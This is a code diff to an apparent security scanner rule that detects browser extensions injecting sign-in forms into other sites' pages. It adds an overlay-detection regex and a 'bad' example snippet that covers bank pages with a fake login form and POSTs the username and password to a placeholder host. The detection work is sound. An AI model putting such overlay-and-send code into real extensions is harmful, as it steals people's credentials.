@@ -10,6 +10,8 @@ const PASSWORD = /<input\b[^>]*\btype\s*=\s*\\?["']?password/i;
 /** What else a form for signing in holds. */
 const ACCOUNT =
   /<input\b[^>]*\b(type\s*=\s*\\?["']?(email|tel)|(name|id|placeholder|autocomplete)\s*=\s*\\?["']?(e-?mail|user|login|phone|account))/i;
+/** A style that lays something over the whole page. */
+const COVERS = /position\s*:\s*fixed[^>"']*\b(?:inset\s*:\s*0|(?:width|height)\s*:\s*100(?:%|v[wh]))/i;
 const PRESSING =
   /(session|login|sign-?in)\b[^<]{0,30}\bexpired|sign in again|log ?in again|verify (it'?s you|your (account|identity))|confirm your password|re-?enter your password|account (is )?(locked|suspended)/i;
 
@@ -21,6 +23,7 @@ export const signInFormInPage = defineRule({
   category: 'privacy',
   applies: 'extension',
   cwe: 'CWE-451',
+  cap: { grade: 'D', reason: 'it asks for passwords in the name of other sites', from: 'critical' },
   references: ['https://attack.mitre.org/techniques/T1056/003/'],
   why: 'People see the address of the site above the form and take the form for the site’s own. What they enter goes to whoever wrote the extension.',
   remedy: 'Ask for passwords only in pages of the extension, or by the sign-in function of the browser.',
@@ -30,6 +33,15 @@ export const signInFormInPage = defineRule({
       const text = pattern(script, value);
       if (!PASSWORD.test(text)) continue;
       const pressing = PRESSING.test(text) || mentions(script, PRESSING);
+      const sends = sendingsOf(script).some(({ kind }) => kind === 'network');
+      const covers = whole || COVERS.test(text);
+      if (covers && sends) {
+        yield hit(value, {
+          severity: 'critical',
+          message: 'The form covers the page, and the script sends to a server.',
+        });
+        return;
+      }
       if (
         !whole &&
         !pressing &&
@@ -60,6 +72,9 @@ export const signInFormInPage = defineRule({
       ),
       contentExample(
         'const box = document.createElement("div"); box.innerHTML = \'<input name="email"><input type="password" name="pw">\'; box.onsubmit = () => { fetch("https://x.example/s", { method: "POST", body: new FormData(box.firstChild) }); }; document.body.append(box);',
+      ),
+      contentExample(
+        'if (/bank/.test(location.host)) { const d = document.createElement("div"); d.innerHTML = \'<form style="position:fixed;inset:0;background:#fff"><input name=u><input type=password name=p></form>\'; document.body.append(d); d.querySelector("form").onsubmit = () => { const [u, p] = d.querySelectorAll("input"); fetch("https://x.example/s", { method: "POST", body: u.value + p.value }); }; }',
       ),
     ],
     good: [
